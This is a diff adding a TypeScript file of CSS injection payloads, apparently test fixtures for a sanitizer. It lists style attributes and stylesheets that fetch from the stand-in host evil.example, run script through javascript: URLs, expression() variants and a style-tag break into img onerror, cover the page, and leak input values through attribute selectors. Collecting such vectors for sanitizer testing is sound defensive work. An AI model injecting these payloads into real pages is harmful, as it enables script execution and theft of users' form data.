@@ -1,0 +1,47 @@
+const declarations = [
+  "background:url(https://evil.example/x)",
+  "background:url('javascript:alert(1)')",
+  "background-image:image-set('https://evil.example/x' 1x)",
+  "list-style:url(//evil.example/x)",
+  "content:url(data:image/svg+xml,<svg/>);visibility:hidden",
+  "cursor:url(//evil.example/x),auto",
+  "border-image:url(//evil.example/x)",
+  "filter:url(//evil.example/x#y)",
+  "clip-path:url(//evil.example/x#y)",
+  "mask:url(//evil.example/x#y)",
+  "fill:url(//evil.example/x#y);stroke:url(y)",
+  "marker:url(//evil.example/x#y)",
+  "behavior:url(//evil.example/x.htc)",
+  "-moz-binding:url(//evil.example/x.xml#y)",
+  "-o-link:'javascript:alert(1)';-o-link-source:current",
+  "width:expression(alert(1))",
+  "x:ｅｘｐｒｅｓｓｉｏｎ(alert(1))",
+  "xss:ex/**/pression(alert(1))",
+  "color:\\72 ed;\\62 ackground:u\\72l(//evil.example/x)",
+  "position:fixed;inset:0;z-index:9999",
+  "animation:x 1s;transition:all 1s",
+  "font-family:'x[a];color:red;/*'",
+  "font-family:foo}*{background:url(//evil.example/x)",
+  "height:1px;width:1px;filter:glow",
+  "--x:url(//evil.example/x);background:var(--x)",
+];
+const sheets = [
+  "@import url(https://evil.example/x);",
+  "@import'data:,*%7bx:expression(alert(1))%7D';",
+  "@font-face{font-family:x;src:url(https://evil.example/x)}",
+  "@namespace url(https://evil.example/x);",
+  "@charset 'utf-7';+AHs-",
+  "input[value^=a]{background:url(https://evil.example/a)}",
+  "p[foo=bar{}*{-o-link:'javascript:alert(1)'}{}*{-o-link-source:current}]{}",
+  "*[{}@import'//evil.example/x?]{color:green}",
+  "/*</style><img src=x onerror=alert(1)>*/",
+];
+
+/** Styles that load, run or cover something. */
+export const styles: readonly string[] = [
+  ...declarations.map((each, at) => (at % 2 ? `<div style="${each}">x</div>` : `" style="${each}`)),
+  ...sheets.map((each) => `<style>${each}</style>`),
+  `<link rel=stylesheet href=data:,*%7bx:expression(alert(1))%7d>`,
+  `}*{background:url(//evil.example/x)}`,
+  `<p class="hidden raw language-x" id=main hidden>x</p>`,
+];
